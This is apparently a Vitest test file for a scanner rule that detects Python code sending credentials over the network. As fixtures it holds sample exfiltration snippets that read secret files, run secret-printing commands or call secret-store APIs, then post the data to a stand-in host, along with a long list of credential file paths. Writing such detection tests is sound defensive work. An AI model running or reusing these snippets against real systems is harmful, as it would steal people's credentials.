import { expect, test } from 'vitest';
import credentialsToNetwork from '../../src/rules/credentials-to-network.js';
import { read } from './reading.js';

const SENT = 'import requests\nrequests.post("https://garden.example.invalid/", data=S)\n';

async function severities(text: string): Promise<readonly string[]> {
  const { facts } = await read(text);
  return facts === null ? [] : credentialsToNetwork.check(facts).map(({ severity }) => severity);
}

const FILES = [
  '~/.cache/huggingface/token', '~/.kaggle/kaggle.json', '~/.databrickscfg', '~/.dbt/profiles.yml', '~/.snowflake/connections.toml', '~/.pulumi/credentials.json', '~/.vercel/auth.json', '~/.netlify/config.json', '~/.fly/config.yml',
  '~/.supabase/access-token', '~/.config/rclone/rclone.conf', '~/.config/pypoetry/auth.toml', '~/.config/pip/pip.conf', '~/.config/glab-cli/config.yml', '~/.config/configstore/firebase-tools.json', '~/.gradle/gradle.properties',
  '~/.nuget/NuGet.Config', '~/.cursor/mcp.json', '~/.local/share/keyrings/login.keyring', '~/.config/sops/age/keys.txt', '~/.putty/sessions/shed', '~/.step/secrets/root_ca_key', '~/.tsh/keys/shed', '~/.thunderbird/x/logins', '~/.local/share/TelegramDesktop/tdata/key_datas',
];

test.each(FILES)('%s is a secret that leaves', async (file) => {
  expect(await severities(`import os\nS = open(os.path.expanduser("${file}"), "rb").read()\n${SENT}`)).toContain('critical');
});

test.each(['nmcli -s -g 802-11-wireless-security.psk connection show shed', 'kwallet-query kdewallet', 'flyctl auth token', 'doppler secrets', 'terraform output -json', 'reg query HKCU /f password /t REG_SZ /s'])('what "%s" prints is one', async (command) => {
  expect(await severities(`import subprocess\nS = subprocess.check_output("${command}", shell=True)\n${SENT}`)).toContain('critical');
});

test.each([
  'import psutil\nS = str(psutil.Process().environ())', 'import huggingface_hub\nS = huggingface_hub.get_token()', 'import hvac\nS = str(hvac.Client().secrets.kv.read_secret_version(path="shed"))', 'import google.auth\nS = google.auth.default()[0].token',
  'from azure.identity import DefaultAzureCredential\nS = DefaultAzureCredential().get_token("x").token', 'import spwd\nS = str(spwd.getspall())', 'from dotenv import dotenv_values\nS = str(dotenv_values())', 'import boto3\nS = str(boto3.client("ssm").get_parameter(Name="shed", WithDecryption=True))',
])('what a program asks for it is one: %s', async (text) => {
  expect(await severities(`${text}\n${SENT}`)).toContain('critical');
});

test.each(['~/.gitconfig', '~/.config/garden/settings.toml', '~/.cache/huggingface/hub/model.bin', '~/.local/share/garden/tdata', '~/.netlify/state.json'])('%s keeps none', async (file) => {
  expect(await severities(`import os\nS = open(os.path.expanduser("${file}"), "rb").read()\n${SENT}`)).toEqual([]);
});

test('what a client of a service asks for when it is called is its own', async () => {
  expect(await severities(`import os, requests\ndef upload():\n    token = open(os.path.expanduser("~/.kaggle/kaggle.json")).read()\n    requests.post("https://garden.example.invalid/", headers={"Authorization": token})\n`)).toEqual(['low']);
});
